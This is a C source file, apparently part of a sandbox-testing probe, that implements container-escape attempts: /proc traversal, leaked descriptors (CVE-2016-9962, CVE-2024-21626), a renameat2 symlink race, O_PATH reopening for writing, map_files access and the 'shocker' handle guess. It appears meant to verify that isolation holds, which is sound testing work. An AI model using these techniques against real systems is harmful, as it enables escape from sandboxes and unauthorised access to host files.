// Attempts to read a file of the host by every way that is not its plain path: "ok" when a byte of it was read, or when
// it was opened as the verb says.
#include "probe.h"

#include "json.h"
#include "kernel.h"
#include "proc.h"

#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define UPWARDS "../../../../../../../../../../../../../../../../"

// Reads a byte and closes.
static int read_byte(int file) {
    char byte;
    if (file < 0) return -1;
    ssize_t count = read(file, &byte, 1);
    int number = count == 0 ? ENODATA : errno;
    close(file);
    errno = number;
    return count == 1 ? 0 : -1;
}

static const char *from_root(const char *path) { return path + strspn(path, "/"); }

static int open_flagged(int directory, const char *path) {
    return openat(directory, path, O_RDONLY | O_CLOEXEC | O_NONBLOCK | O_NOCTTY);
}

struct through {
    const char *link, *path;
    int number;
};

// /proc/PID/root, /proc/PID/cwd: a link that the kernel follows without looking at the path between here and there.
static bool read_through_link(const char *process, void *context) {
    struct through *way = context;
    char place[8192];
    snprintf(place, sizeof place, "%s/%s/" UPWARDS "%s", process, way->link, from_root(way->path));
    way->number = read_byte(open_flagged(AT_FDCWD, place)) < 0 ? errno : 0;
    return way->number == 0;
}

// CVE-2016-9962: the descriptors of the runtime's process that has entered the sandbox before its program started.
static bool read_through_descriptors(const char *process, void *context) {
    struct through *way = context;
    char list[64], place[8192];
    snprintf(list, sizeof list, "%s/%s", process, way->link);
    for (int descriptor = 0; descriptor < 256; descriptor++) {
        snprintf(place, sizeof place, "%s/%d/" UPWARDS "%s", list, descriptor, from_root(way->path));
        if (read_byte(open_flagged(AT_FDCWD, place)) < 0) continue;
        way->number = 0;
        return true;
    }
    return false;
}

static int read_through(char **arguments) {
    struct through way = {.link = arguments[0], .path = arguments[1], .number = ENOENT};
    bool (*look)(const char *, void *) =
        strcmp(way.link, "fd") == 0 ? read_through_descriptors : read_through_link;
    each_process(look, &way);
    errno = way.number;
    return answer(way.number ? -1 : 0);
}

// CVE-2024-21626: a directory that the runtime left open leads out, by openat and by /proc/self/fd.
static int read_through_inherited(char **arguments) {
    char place[8192];
    int number = EBADF;
    for (int descriptor = 0; descriptor < 1024 && number; descriptor++) {
        snprintf(place, sizeof place, UPWARDS "%s", from_root(arguments[0]));
        if (read_byte(open_flagged(descriptor, place)) == 0) number = 0;
        snprintf(place, sizeof place, "/proc/self/fd/%d/" UPWARDS "%s", descriptor, from_root(arguments[0]));
        if (number && read_byte(open_flagged(AT_FDCWD, place)) == 0) number = 0;
    }
    errno = number;
    return answer(number ? -1 : 0);
}

// A link that is a directory at the next moment: beats whoever looks first and opens afterwards. Tried until a thousand
// swaps were met, however the two are scheduled, for at most ten seconds.
static int race_open(char **arguments) {
    char place[4096], target[4096], scene[] = "/tmp/jrun-probe-XXXXXX";
    char *slash = strrchr(arguments[0], '/');
    if (!slash || slash == arguments[0]) return BAD_USAGE;
    snprintf(target, sizeof target, "%.*s", (int)(slash - arguments[0]), arguments[0]);
    snprintf(place, sizeof place, "race%s", slash);
    if (!mkdtemp(scene) || chdir(scene) < 0) return answer_at("mkdtemp", -1);
    if (mkdir("race", 0700) < 0 || symlink(target, "link") < 0) return answer_at("symlink", -1);
    _Atomic unsigned *swaps = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    if (swaps == MAP_FAILED) return answer_at("mmap", -1);
    pid_t swapper = fork();
    while (swapper == 0)
        if (syscall(SYS_renameat2, AT_FDCWD, "race", AT_FDCWD, "link", 2 /* RENAME_EXCHANGE */) == 0) ++*swaps;
    time_t end = time(NULL) + 10;
    int number = ENOENT;
    for (unsigned met = 0, last = 0; met < 1000 && number && time(NULL) < end;) {
        if (read_byte(open_flagged(AT_FDCWD, place)) == 0) number = 0;
        if (*swaps == last) {
            sched_yield();
            continue;
        }
        last = *swaps;
        met++;
    }
    kill(swapper, SIGKILL);
    waitpid(swapper, NULL, 0);
    remove("race");
    remove("link");
    rmdir(scene);
    errno = number;
    return answer(number ? -1 : 0);
}

// A descriptor that may nothing becomes one that may write, by way of /proc.
static int reopen(char **arguments) {
    char place[64];
    int handle = open(arguments[0], O_PATH | O_CLOEXEC);
    if (handle < 0) return answer_at("open", -1);
    snprintf(place, sizeof place, "/proc/self/fd/%d", handle);
    return answer_at("reopen", open(place, O_WRONLY | O_CLOEXEC | O_NONBLOCK | O_NOCTTY));
}

// What is mapped can be opened for writing without its path (needs CAP_CHECKPOINT_RESTORE since Linux 5.9).
static int open_mapped(char **arguments UNUSED) {
    static char maps[65536];
    char place[128];
    unsigned long first, end;
    if (read_text("/proc/self/maps", maps, sizeof maps) < 0) return answer_at("maps", -1);
    for (char *rest = maps, *line; (line = strsep(&rest, "\n"));) {
        if (!strchr(line, '/') || sscanf(line, "%lx-%lx", &first, &end) != 2) continue;
        snprintf(place, sizeof place, "/proc/self/map_files/%lx-%lx", first, end);
        return answer_at("open", open(place, O_RDONLY | O_CLOEXEC));
    }
    errno = ENODATA;
    return answer_at("maps", -1);
}

static int name_handle(char **arguments) {
    struct file_handle *handle = calloc(1, sizeof *handle + MAX_HANDLE_SZ);
    int mount;
    handle->handle_bytes = MAX_HANDLE_SZ;
    return answer(name_to_handle_at(AT_FDCWD, arguments[0], handle, &mount, 0));
}

// The "shocker" of 2014 guessed the handle of the root directory of the disk: inode 2 on ext4.
static int guess_handle(char **arguments) {
    struct file_handle *handle = calloc(1, sizeof *handle + MAX_HANDLE_SZ);
    const uint32_t root[2] = {2, 0};  // inode, generation
    handle->handle_bytes = sizeof root;
    handle->handle_type = 1;  // FILEID_INO32_GEN
    memcpy(handle->f_handle, root, sizeof root);
    int disk = open(arguments[0], O_RDONLY | O_CLOEXEC);
    if (disk < 0) return answer_at("open", -1);
    return answer_at("open_by_handle_at", open_by_handle_at(disk, handle, O_RDONLY | O_CLOEXEC));
}

const struct verb file_attacks[] = {
    {"read-through", 2, 2, "root|cwd|fd PATH", "read PATH through /proc/*/root, /proc/*/cwd or /proc/*/fd/*", read_through},
    {"read-through-inherited", 1, 1, "PATH", "read PATH through a directory left open (CVE-2024-21626)",
     read_through_inherited},
    {"race-open", 1, 1, "PATH", "read PATH through a directory that is swapped for a link meanwhile", race_open},
    {"reopen", 1, 1, "PATH", "open with O_PATH, then for writing through /proc/self/fd", reopen},
    {"map-files", 0, 0, "", "open a mapped file through /proc/self/map_files", open_mapped},
    {"name-handle", 1, 1, "PATH", "name_to_handle_at", name_handle},
    {"guess-handle", 1, 1, "PATH", "open the root of PATH's ext4 by the handle of inode 2", guess_handle},
    {0},
};
